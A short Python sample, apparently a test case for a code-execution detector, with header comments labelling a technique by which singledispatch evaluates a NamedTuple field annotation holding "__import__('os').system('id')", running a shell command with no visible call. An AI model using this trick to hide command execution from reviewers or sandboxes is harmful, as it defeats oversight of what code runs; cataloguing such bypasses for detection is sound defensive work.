# class: no-call
# mechanism: annotation that is run
# how: the type of a field of a functional NamedTuple is a text, which singledispatch evaluates of the instance given to register
# reaches: event os.system
from typing import NamedTuple
from functools import singledispatch
X = NamedTuple("X", [("a", "__import__('os').system('id')")])
@singledispatch
def f(x):
    return x
f.register(X(1))
